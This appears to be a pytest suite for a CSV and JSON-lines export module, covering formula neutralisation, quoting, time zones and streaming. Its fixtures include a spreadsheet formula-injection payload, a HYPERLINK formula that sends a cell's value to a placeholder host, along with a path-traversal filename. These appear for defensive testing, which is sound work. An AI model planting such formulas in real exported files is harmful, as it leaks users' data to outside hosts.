"""Files that are taken out: what a spreadsheet makes of them, and what a program reads in them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from operator import itemgetter
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from effects.exporting import (
    CHUNK_CHARACTERS,
    Column,
    Kind,
    csv_lines,
    csv_response,
    json_lines,
    json_lines_response,
    neutral,
)
from effects.pages.settings import ShownTimes
from tests.support.awaiting import awaited

UTC_TIMES = ShownTimes(word="utc")
BERLIN = ShownTimes(word="local", zone="Europe/Berlin")
COLUMNS: tuple[Column[dict[str, Any]], ...] = (
    Column(name="tool", title="Tool"),
    Column(name="note", read=lambda row: row.get("note")),
    Column(name="amount", title="Amount", kind=Kind.NUMBER, read=lambda row: row.get("amount")),
)
CASE: list[dict[str, Any]] = [
    {"tool": '=HYPERLINK("http://x.test?"&A1,"ok")', "note": "-2+3"},
    {"tool": "@SUM(1)", "note": "\tx"},
    {"tool": "pay", "amount": -4200},
    {"tool": 'a,"b"\nc', "note": "é;ü"},
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\N{BOM}"), newline=""), strict=True))


@pytest.mark.case("U11")
def test_texts_stay_texts_and_numbers_stay_numbers_in_a_spreadsheet() -> None:
    text = "".join(csv_lines(COLUMNS, CASE, times=UTC_TIMES))
    assert text.encode().startswith(b"\xef\xbb\xbf")  # by which spreadsheets know UTF-8
    assert read_csv(text) == [
        ["Tool", "note", "Amount"],
        ['\'=HYPERLINK("http://x.test?"&A1,"ok")', "'-2+3", ""],
        ["'@SUM(1)", "'\tx", ""],
        ["pay", "", "-4200"],
        ['a,"b"\nc', "é;ü", ""],
    ]
    # RFC 4180: quotes are doubled inside quotes, and records end in CR LF.
    assert text.endswith('"a,""b""\nc",é;ü,\r\n')


@pytest.mark.case("U11")
def test_lines_of_json_are_exact() -> None:
    lines = "".join(json_lines(COLUMNS, CASE)).splitlines()
    assert [json.loads(line) for line in lines] == [
        {"tool": row["tool"], "note": row.get("note"), "amount": row.get("amount")} for row in CASE
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        *(("=1", "'=1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@x", "'@x"), ("\tx", "'\tx")),
        *((" =1", "' =1"), ("\xa0=1", "'\xa0=1"), ("\r\n=1", "'\r\n=1"), ("\n1", "'\n1")),
        *(("＝1", "'＝1"), ("a=1", "a=1"), ("1-2", "1-2"), ("", "")),  # noqa: RUF001 - read as = in Japan
    ],
)
def test_a_cell_that_would_be_evaluated_is_a_text(text: str, cell: str) -> None:
    assert neutral(text) == cell


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_every_text_comes_back_from_the_file(texts: list[str]) -> None:
    columns: list[Column[list[str]]] = [
        Column(name=str(at), read=itemgetter(at)) for at in range(len(texts))
    ]
    text = "".join(csv_lines(columns, [texts], times=UTC_TIMES))
    assert read_csv(text)[1] == [neutral(one) for one in texts]
    (line,) = json_lines(columns, [texts])
    assert list(json.loads(line).values()) == texts
    assert line.count("\n") == 1


ARGUMENTS = '{\n  "id": 1970670598291982290,\r\n  "f": 1.10, "e": 1e2, "text": "a\\nb"}'


@pytest.mark.case("U08")
def test_digits_leave_the_product_as_they_came() -> None:
    columns: list[Column[dict[str, Any]]] = [
        Column(name="arguments", kind=Kind.JSON),
        Column(name="amount", kind=Kind.NUMBER),
    ]
    row = {"arguments": ARGUMENTS, "amount": Decimal("1E+2")}
    (line,) = json_lines(columns, [row])
    assert line == (
        '{"arguments":{   "id": 1970670598291982290,    "f": 1.10, "e": 1e2, "text": "a\\nb"},'
        '"amount":100}\n'
    )
    _, cells = read_csv("".join(csv_lines(columns, [row], times=UTC_TIMES)))
    assert cells == [ARGUMENTS, "100"]


@pytest.mark.parametrize("text", ["{", '{"a": NaN}', "[" * 100_000, "cut of"])
def test_what_is_no_json_becomes_a_text_instead_of_breaking_the_line(text: str) -> None:
    (line,) = json_lines([Column[dict[str, str]](name="raw", kind=Kind.JSON)], [{"raw": text}])
    assert json.loads(line) == {"raw": text}


AT = datetime(2026, 7, 1, 10, 0, 0, 120_000, tzinfo=UTC)


def test_times_are_in_the_zone_that_their_heading_names() -> None:
    columns = [Column[dict[str, Any]](name="at", title="Sent", kind=Kind.TIME)]
    rows: list[dict[str, Any]] = [{"at": AT}, {"at": None}]
    assert read_csv("".join(csv_lines(columns, rows, times=BERLIN))) == [
        ["Sent (Europe/Berlin)"],
        ["2026-07-01 12:00:00"],
        [""],
    ]
    assert read_csv("".join(csv_lines(columns, rows, times=UTC_TIMES)))[0] == ["Sent (UTC)"]
    assert next(json_lines(columns, rows)) == '{"at":"2026-07-01T10:00:00.120000Z"}\n'


def test_the_hour_that_is_there_twice_says_which_it_is() -> None:
    columns = [Column[dict[str, Any]](name="at", kind=Kind.TIME)]
    rows = [{"at": datetime(2026, 10, 25, hour, 30, tzinfo=UTC)} for hour in (0, 1, 2)]
    _, first, second, third = read_csv("".join(csv_lines(columns, rows, times=BERLIN)))
    assert (first, second) == (["2026-10-25 02:30:00 CEST"], ["2026-10-25 02:30:00 CET"])
    assert third == ["2026-10-25 03:30:00"]


def test_the_last_day_there_is_has_no_other_zone() -> None:
    columns = [Column[dict[str, Any]](name="at", kind=Kind.TIME)]
    last = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)
    assert read_csv("".join(csv_lines(columns, [{"at": last}], times=BERLIN)))[1][0].startswith(
        "9999"
    )


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        *((Kind.NUMBER, 1.5), (Kind.NUMBER, "1"), (Kind.NUMBER, True)),
        *((Kind.NUMBER, Decimal("NaN")), (Kind.TIME, "now"), (Kind.TIME, AT.replace(tzinfo=None))),
    ],
)
def test_a_value_that_is_not_of_its_columns_kind_is_refused(kind: Kind, value: object) -> None:
    columns = [Column[dict[str, Any]](name="x", kind=kind)]
    with pytest.raises(TypeError, match="The column x holds"):
        list(csv_lines(columns, [{"x": value}], times=UTC_TIMES))
    with pytest.raises(TypeError, match="The column x holds"):
        list(json_lines(columns, [{"x": value}]))


def test_a_file_is_sent_while_its_rows_are_read() -> None:
    read = 0

    def rows() -> Iterator[dict[str, str]]:
        nonlocal read
        while read < 10:
            read += 1
            yield {"text": "x" * CHUNK_CHARACTERS}

    columns = [Column[dict[str, str]](name="text")]
    response = json_lines_response('../a "b".jsonl', columns, rows())

    async def first_two() -> int:
        seen = 0
        async for _ in response:
            seen += 1
            if seen == 2:
                break
        return read

    assert awaited(first_two()) < 10
    assert response["Content-Disposition"] == 'attachment; filename="..-a-b-.jsonl"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_what_fails_at_the_first_row_is_an_error_page_and_no_file() -> None:
    columns = [Column[dict[str, Any]](name="x", kind=Kind.NUMBER)]
    with pytest.raises(TypeError):
        csv_response("a.csv", columns, [{"x": "no number"}], times=UTC_TIMES)
